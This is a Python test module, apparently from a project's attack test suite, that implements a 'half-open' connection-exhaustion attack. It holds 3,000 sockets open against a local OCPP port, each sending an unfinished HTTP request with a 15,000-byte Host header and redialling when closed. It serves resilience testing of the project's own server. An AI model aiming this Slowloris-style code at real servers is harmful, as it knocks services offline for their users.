"""(h) Sockets that begin a handshake, and never finish it."""

import asyncio
from contextlib import suppress

from tests.attack import wire
from tests.attack.attacker import MEBIBYTE, Attacker, Tally, Target

_SOCKETS = 3_000
_BEGINNING = b"GET / HTTP/1.1\r\nHost:" + b"x" * 15_000
_DIALLING = 100


async def attack(target: Target, tally: Tally) -> None:
    """Keep so many open, each dialled again when it is closed."""
    await hold_open(target.ocpp_port, tally, wire.ELSEWHERE)


async def hold_open(
    port: int,
    tally: Tally,
    source: str | None,
    *,
    sockets: int = _SOCKETS,
    beginning: bytes = _BEGINNING,
) -> None:
    """Send most of a request on each, else of the longest there may be, and wait for its end."""
    dialling = asyncio.Semaphore(_DIALLING)

    async def half_open() -> None:
        while True:
            with suppress(OSError):
                async with dialling:
                    reader, writer = await asyncio.open_connection(
                        "127.0.0.1",
                        port,
                        local_addr=None if source is None else (source, 0),
                    )
                try:
                    writer.write(beginning)
                    tally.did()
                    await reader.read()
                    tally.lost()
                finally:
                    writer.transport.abort()
            await asyncio.sleep(0)

    async with asyncio.TaskGroup() as group:
        for _ in range(sockets):
            group.create_task(half_open())


ATTACKER = Attacker(
    name="half-open",
    about=f"{_SOCKETS:,} sockets that never finish their request",
    unit="sockets",
    attack=attack,
    node_budget=64 * MEBIBYTE,
)
